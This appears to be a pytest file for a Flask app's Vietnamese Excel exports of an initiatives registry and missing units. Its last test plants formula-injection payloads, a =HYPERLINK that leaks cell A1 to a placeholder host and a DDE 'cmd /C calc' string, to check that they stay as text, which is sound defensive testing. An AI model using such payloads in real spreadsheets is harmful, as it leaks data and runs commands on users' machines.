"""The registry and the missing units as Excel workbooks that open, in Vietnamese, dated dd/mm/yyyy."""

from __future__ import annotations

from datetime import date, datetime

from flask_babel import force_locale

from inspection.labels import label
from models import InitiativeStatus
from tests.workbooks import opened


def _sheet(response):
    return opened(response).active


def test_the_registry_export_has_the_filtered_rows(leader_client, make_unit, make_initiative):
    unit = make_unit(code="TTDV", name="Trung tâm Dịch vụ")
    make_initiative(InitiativeStatus.RECOGNISED, unit=unit, title="Sáng kiến một cửa", start_date=date(2026, 3, 2))
    make_initiative(title="Đường dây nóng")
    make_initiative(title="Năm khác", year=2025)
    sheet = _sheet(leader_client.get("/initiatives/export.xlsx", query_string={"year": 2026, "q": "mot cua"}))
    rows = list(sheet.iter_rows(values_only=True))
    headers = rows[0]
    assert headers[:8] == ("STT", "Năm", "Mã đơn vị", "Đơn vị", "Tên sáng kiến, giải pháp", "Lĩnh vực",
                           "Trạng thái", "Ngày bắt đầu")
    assert len(rows) == 2
    row = dict(zip(headers, rows[1], strict=True))
    assert row["Đơn vị"] == "Trung tâm Dịch vụ" and row["Tên sáng kiến, giải pháp"] == "Sáng kiến một cửa"
    with force_locale("vi"):
        assert row["Trạng thái"] == label(InitiativeStatus.RECOGNISED)
    assert row["Ngày bắt đầu"] == datetime(2026, 3, 2)
    assert sheet.cell(row=2, column=8).number_format == "dd/mm/yyyy"


def test_the_export_is_in_vietnamese_even_in_english(leader_client, make_initiative):
    make_initiative()
    leader_client.get("/language/en")
    sheet = _sheet(leader_client.get("/initiatives/export.xlsx?year=2026"))
    assert sheet.cell(row=1, column=2).value == "Năm"


def test_the_missing_units_export(leader_client, make_unit, make_initiative):
    done, missing = make_unit(code="XONG"), make_unit(code="THIEU", name="Phòng Tổ chức")
    make_unit(code="NGUNG", active=False)
    make_initiative(InitiativeStatus.RECOGNISED, unit=done)
    make_initiative(InitiativeStatus.RETURNED, unit=missing)
    sheet = _sheet(leader_client.get("/initiatives/missing.xlsx?year=2026"))
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][:3] == (1, "THIEU", "Phòng Tổ chức")
    assert rows[1][6] == 1  # one initiative submitted, none recognised
    assert rows[1][7] == datetime(2026, 10, 31)
    assert sheet.cell(row=2, column=8).number_format == "dd/mm/yyyy"


def test_a_title_that_looks_like_a_formula_stays_text(leader_client, make_initiative):
    """An initiative titled =HYPERLINK(…) must not become a live link or formula in Excel."""
    title = '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem chi tiết")'
    make_initiative(title=title, description="  +cmd|' /C calc'!A0")
    sheet = _sheet(leader_client.get("/initiatives/export.xlsx?year=2026"))
    title_cell, description_cell = sheet.cell(row=2, column=5), sheet.cell(row=2, column=16)
    assert (title_cell.value, title_cell.data_type, title_cell.quotePrefix) == (title, "s", True)
    assert description_cell.value == "  +cmd|' /C calc'!A0" and description_cell.quotePrefix
